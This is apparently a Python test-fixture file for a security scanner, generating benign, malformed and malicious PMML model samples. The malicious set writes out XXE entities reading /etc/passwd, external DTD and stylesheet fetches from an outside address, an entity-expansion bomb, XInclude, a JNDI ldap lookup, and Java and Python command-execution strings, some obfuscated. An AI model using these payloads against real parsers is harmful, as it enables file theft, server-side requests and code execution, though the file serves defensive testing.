"""PMML: ordinary models, and what XML can be made to do."""

from __future__ import annotations

from collections.abc import Iterator

from tests.scanning.sample import Sample, benign, malformed, malicious

_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
_FIELDS = (
    '<DataDictionary><DataField name="x" optype="continuous" dataType="double"/></DataDictionary>'
)


def pmml(inner: str = "", *, front: str = _HEAD, field: str = _FIELDS) -> bytes:
    """A regression with something more in it."""
    text = f"""{front}<PMML xmlns="http://www.dmg.org/PMML-4_4" xmlns:data="http://jpmml.org/jpmml-model/InlineTable" version="4.4">
<Header copyright="somebody"><Application name="JPMML-SkLearn" version="1.7"/><Timestamp>2026-11-01T10:00:00Z</Timestamp></Header>
{field}
<RegressionModel functionName="regression"><MiningSchema><MiningField name="x"/></MiningSchema>
<RegressionTable intercept="1.5"><NumericPredictor name="x" coefficient="2"/></RegressionTable></RegressionModel>
{inner}</PMML>
"""
    return text.encode()


_EXTENSION = '<Extension name="author" value="somebody" extender="KNIME"/>'
_APPLY = '<TransformationDictionary><DerivedField name="y"><Apply function="{}"><FieldRef field="x"/></Apply></DerivedField></TransformationDictionary>'
_MALICIOUS = {
    "entity-of-a-file": pmml(
        "<a>&x;</a>", front=_HEAD + '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
    ),
    "entity-of-an-address": pmml(
        "<a>&x;</a>", front=_HEAD + '<!DOCTYPE PMML [<!ENTITY x SYSTEM "http://203.0.113.9/">]>\n'
    ),
    "entity-of-a-parameter": pmml(
        front=_HEAD + '<!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://203.0.113.9/x.dtd"> %x;]>\n'
    ),
    "entity-that-is-public": pmml(
        front=_HEAD + '<!DOCTYPE PMML [<!ENTITY x PUBLIC "a" "file:///etc/hosts">]>\n'
    ),
    "rules-from-elsewhere": pmml(
        front=_HEAD + '<!DOCTYPE PMML SYSTEM "http://203.0.113.9/pmml.dtd">\n'
    ),
    "bomb": pmml(
        "&c;",
        front=_HEAD
        + '<!DOCTYPE PMML [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>\n',
    ),
    "stylesheet": pmml(
        front=_HEAD + '<?xml-stylesheet type="text/xsl" href="http://203.0.113.9/x.xsl"?>\n'
    ),
    "include": pmml(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
    ),
    "transform": pmml(
        '<xsl:value-of xmlns:xsl="http://www.w3.org/1999/XSL/Transform" select="x"/>'
    ),
    "script": pmml("<Extension><script>alert(1)</script></Extension>"),
    "extension-of-java": pmml(
        '<Extension name="x" value="java.lang.Runtime.getRuntime().exec(\'id\')"/>'
    ),
    "extension-of-python": pmml("<Extension>import os; os.system('id')</Extension>"),
    "lookup-of-a-name": pmml('<Extension name="x" value="${jndi:ldap://203.0.113.9/a}"/>'),
    "function-of-java": pmml(_APPLY.format("com.evil.Function")),
    "text-in-pieces": pmml("<Extension>os.<![CDATA[system('id')]]></Extension>"),
    "written-in-numbers": pmml("<Extension>&#111;s.system('id')</Extension>"),
}
_MALFORMED = {
    "cut": pmml()[:-20],
    "cut-in-the-middle": pmml()[:300],
    "element-not-closed": pmml("<a><b></a>"),
    "entity-not-defined": pmml("&nothing;"),
    "something-behind": pmml() + b"<more/>",
    "attribute-twice": pmml('<a x="1" x="2"/>'),
    "control-character": pmml("\x01"),
    "too-deep": pmml("<a>" * 3000 + "</a>" * 3000),
    "another-root": b'<?xml version="1.0"?><other><PMML version="4.4"/></other>',
}


def samples() -> Iterator[Sample]:
    """Every sample of this family."""
    yield benign("regression", "model.pmml", pmml())
    yield benign("as-xml", "model.xml", pmml())
    yield benign("extension", "model.pmml", pmml(_EXTENSION))
    yield benign("function", "model.pmml", pmml(_APPLY.format("lowercase")))
    yield benign("comment", "model.pmml", pmml("<!-- <script>nothing</script> -->"))
    yield benign("without-a-head", "model.pmml", pmml(front=""))
    yield benign(
        "inline-table",
        "model.pmml",
        pmml("<InlineTable><row><data:input>a</data:input></row></InlineTable>"),
    )
    yield benign(
        "words-that-look-bad",
        "model.pmml",
        pmml('<Extension name="system" value="operating system, import"/>'),
    )
    yield benign(
        "with-a-prefix",
        "model.pmml",
        b'<p:PMML xmlns:p="http://www.dmg.org/PMML-4_4" version="4.4"><p:Header/></p:PMML>',
    )
    for name, content in _MALICIOUS.items():
        yield malicious(name, "model.pmml", content)
    for name, content in _MALFORMED.items():
        yield malformed(name, "model.pmml", content)
